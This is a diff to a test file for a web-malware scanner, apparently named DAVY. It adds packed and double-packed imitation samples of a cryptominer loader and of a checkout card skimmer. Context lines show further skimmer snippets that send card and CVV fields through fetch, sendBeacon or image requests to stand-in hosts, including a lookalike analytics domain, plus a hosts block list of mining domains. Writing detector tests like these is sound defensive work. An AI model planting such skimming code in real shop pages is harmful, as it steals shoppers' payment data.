@@ -82,6 +82,10 @@ hit(RULE, '/var/www/html/unescape.html', page.format('a.js', "document.write(une
 hit(RULE, '/var/www/html/hex.js', 'var s = "' + ''.join(f'\\x{c:02x}' for c in (loader + start).encode()) + '"; eval(s);\n')
 hit(RULE, '/home/anna/public_html/index.htm', page.format(loader, start).replace('\n', '\r\n'))
 hit(RULE, '/var/www/utf16.html', page.format(loader, start).encode('utf-16'))
+hit(RULE, '/var/www/html/packed.js', imitations.packed(f"load('{loader}'); {start} /* DAVY TEST IMITATION */"))
+hit(RULE, '/var/www/html/packed.html', page.format('a.js', imitations.packed(f"load('{loader}'); {start} /* DAVY TEST IMITATION */", 36)))
+hit(RULE, '/var/www/html/packed-twice.js', imitations.packed(imitations.packed(f"load('{loader}'); {start} /* DAVY TEST IMITATION */")))
+quiet('/var/www/html/packed-slider.js', imitations.packed('(function($){$.fn.slider=function(o){return this.each(function(){$(this).fadeIn(o.speed)})}})(jQuery);'))
 hit('Web module that mines', '/var/www/html/w.wasm', b'\0asm\1\0\0\0DAVY TEST IMITATION cryptonight_hash\0')
 quiet('/var/www/html/blog.html', '<html><body><p>CoinHive closed in 2019; its script was coinhive.min.js.</p></body></html>')
 quiet('/etc/hosts.block', '0.0.0.0 coinhive.com\n0.0.0.0 coin-hive.com\n0.0.0.0 authedmine.com\n0.0.0.0 crypto-loot.com\n')
@@ -105,6 +109,7 @@ hit(RULE, '/var/www/shop/js/image.js', form + " if (/checkout/.test(location)) n
 hit(RULE, '/var/www/shop/js/beacon.js', form + f" navigator.sendBeacon(atob('{b64('https://stats.example.net/c')}'), btoa(n + c)); }});\n")
 hit(RULE, '/var/www/shop/js/name.js', form + " fetch('https://www.google-anaiytics.com/g', {method: 'POST', body: n + c}); });\n")
 hit(RULE, '/var/www/shop/js/jquery.js', "$('#cc, #cvv').on('change', function () { var d = $('#payment').serialize(); new Image().src = 'https://s.example.net/p?' + d; /* DAVY TEST IMITATION */ });\n")
+hit(RULE, '/var/www/shop/js/packed.js', imitations.packed(form + " navigator.sendBeacon('https://stats.example.net/c', btoa(n + c)); });"))
 hit('Script reads card data and names another host', '/var/www/shop/js/ajax.js',
     "$(document).on('submit', '#ccn,#cvc', function () { $.ajax({url: 'https://s.example.net/', data: $(this).serialize()}) /* DAVY TEST IMITATION */ });\n")
 quiet('/var/www/shop/js/masked.js', "var m = ['#cc-number', '#cvv', '#card']; document.addEventListener('change', e => m.includes('#' + e.target.id) || navigator.sendBeacon('https://s.example.net/e', e.type));\n")
